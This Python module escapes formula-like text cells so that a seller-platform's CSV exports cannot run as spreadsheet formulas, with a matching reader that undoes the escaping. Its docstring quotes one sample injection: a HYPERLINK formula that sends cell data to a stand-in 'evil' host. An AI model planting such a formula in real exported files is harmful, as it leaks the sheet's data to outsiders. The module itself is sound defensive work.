"""Spreadsheet cells that stay text: the one writer of every CSV file Livestall makes.

A CSV cell that starts like a formula (``=``, ``+``, ``-``, ``@``, or a tab / carriage return)
runs as one when the seller opens the file in Excel, LibreOffice or Google Sheets: a viewer named
``=HYPERLINK("http://evil/?"&A1, "bấm")`` would send the sheet's data away. Following OWASP's
"CSV Injection" guidance, such a text cell is written with a leading apostrophe, which every
spreadsheet shows as text; the check also looks past leading whitespace (``" =1"``), since some
spreadsheets trim it before deciding, and at the full-width forms (``＝``) that some input
methods type.

Numbers the program itself writes (prices, quantities, ids) are passed as numbers and stay
numbers, even negative ones; only text cells are escaped. A text that is only a phone number
(``+84 912 345 678``: a plus, then digits, spaces and dots) is kept as it is, because carriers read
that column and such a cell cannot call a function or read another cell.

`read_cell` undoes the apostrophe, so a catalog exported here loads back unchanged.

Pure: values in, text out.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal

Cell = str | int | Decimal | None

# OWASP CSV Injection: = + - @ tab CR; full-width = + - @ (U+FF1D, U+FF0B, U+FF0D, U+FF20).
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_PHONE_RE = re.compile(r"\+[0-9][0-9 .]{6,19}")


def is_formula_like(text: str) -> bool:
    """Return whether a spreadsheet could read this text as a formula.

    Args:
        text: a cell's text as it would be written.

    Returns:
        True when it starts, or starts after whitespace, with a formula character.
    """
    if text[:1] in FORMULA_STARTS:
        return True
    stripped = text.lstrip()
    return stripped[:1] in FORMULA_STARTS


def safe_cell(text: str) -> str:
    """Return text that every spreadsheet shows as text (a leading ``'`` when it looks like a formula).

    Args:
        text: seller- or viewer-written text (a name, comment, address, product name).

    Returns:
        The text, prefixed with an apostrophe when `is_formula_like` (or when it is apostrophes
        before such text, so `read_cell` gives back exactly what was written); phone numbers
        unchanged.
    """
    if not is_formula_like(text.lstrip("'")) or _PHONE_RE.fullmatch(text):
        return text
    return "'" + text


def read_cell(text: str) -> str:
    """Undo `safe_cell` on a cell read back from a file this module wrote.

    Args:
        text: a cell as read by the csv module.

    Returns:
        The text without the apostrophe `safe_cell` added; any other text unchanged.
    """
    if text.startswith("'") and is_formula_like(text.lstrip("'")):
        return text[1:]
    return text


def format_cell(value: Cell) -> str:
    """Return one cell's text: text made safe, numbers as plain digits, ``None`` as empty.

    Args:
        value: text, a whole number, a `Decimal` amount, or ``None``.

    Returns:
        The cell as written; a `Decimal` never uses exponent form (``1E+3`` is ``1000``).
    """
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_cell(value)
    if isinstance(value, Decimal):
        return str(int(value)) if value == value.to_integral_value() else f"{value:f}"
    return str(value)


def write_csv(
    header: Sequence[str], rows: Iterable[Sequence[Cell]], *, line_end: str = "\r\n"
) -> str:
    """Write a header and rows as CSV text, every cell through `format_cell`.

    Args:
        header: the column names (the program's own words, written as they are).
        rows: one sequence of cells per line.
        line_end: ``"\\r\\n"`` for Excel and carriers, ``"\\n"`` for files people edit.

    Returns:
        The CSV text, without a byte-order mark.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=line_end)
    writer.writerow(header)
    for row in rows:
        writer.writerow([format_cell(value) for value in row])
    return out.getvalue()


def excel_csv(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """Write CSV as Excel opens it right: UTF-8 with a byte-order mark, CRLF lines.

    Args:
        header: the column names.
        rows: one sequence of cells per line.

    Returns:
        The file's bytes.
    """
    return ("\ufeff" + write_csv(header, rows)).encode("utf-8")
